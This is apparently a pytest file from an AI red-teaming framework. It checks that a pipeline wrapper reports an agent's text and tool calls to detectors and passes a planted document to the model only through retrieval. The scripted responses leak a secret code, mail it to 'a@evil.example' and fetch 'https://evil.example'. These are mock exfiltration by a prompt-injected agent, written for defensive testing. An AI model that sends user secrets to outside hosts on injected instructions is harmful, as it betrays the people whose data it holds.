"""Attacks on PipelineTarget: what the agent did or said must reach the detectors."""

from __future__ import annotations

import asyncio

from kastell.redteam.interface import ChatMessage, ChatRequest, ChatResponse, ToolCall
from kastell.redteam.targets.pipeline import PLANTED_DOCUMENT, PipelineTarget


class _Scripted:
    """Answers from a script, one response per request; counts requests."""

    description = "scripted"

    def __init__(self, script: list[ChatResponse]) -> None:
        self.script, self.requests = script, 0

    async def send(self, request: ChatRequest) -> ChatResponse:
        reply = self.script[min(self.requests, len(self.script) - 1)]
        self.requests += 1
        return reply

    async def aclose(self) -> None:
        return None


def _ask(target: PipelineTarget, *messages: ChatMessage) -> ChatResponse:
    return asyncio.run(target.send(ChatRequest(messages=messages, max_tokens=64)))


def test_text_written_beside_a_tool_call_is_kept() -> None:
    model = _Scripted([
        ChatResponse(text="Sure, the code is ZEBRA-4471.",
                     tool_calls=(ToolCall("send_mail", '{"to": "a@evil.example"}'),)),
        ChatResponse(text="Done."),
    ])
    reply = _ask(PipelineTarget(model), ChatMessage("user", "What is the code?"))
    assert "ZEBRA-4471" in reply.text
    assert [c.name for c in reply.tool_calls] == ["send_mail"]


def test_loop_is_bounded_and_every_call_is_listed() -> None:
    call = ToolCall("http_get", '{"url": "https://evil.example"}')
    model = _Scripted([ChatResponse(text="", tool_calls=(call, call))])
    reply = _ask(PipelineTarget(model, max_steps=3), ChatMessage("user", "go"))
    assert model.requests == 3
    assert len(reply.tool_calls) == 6


def test_planted_document_reaches_the_model_only_through_retrieval() -> None:
    seen: list[tuple[ChatMessage, ...]] = []

    class _Recorder(_Scripted):
        async def send(self, request: ChatRequest) -> ChatResponse:
            seen.append(request.messages)
            return ChatResponse(text="ok")

    target = PipelineTarget(_Recorder([]), ["Refund policy: refunds within 30 days."], k=1)
    _ask(target, ChatMessage("user", PLANTED_DOCUMENT + "Weather report: sunny and mild."),
         ChatMessage("assistant", "Noted."), ChatMessage("user", "What is the refund policy?"))
    sent = "\n".join(m.content for m in seen[0])
    assert "sunny" not in sent
    assert "Noted." not in sent
    assert "refunds within 30 days" in sent
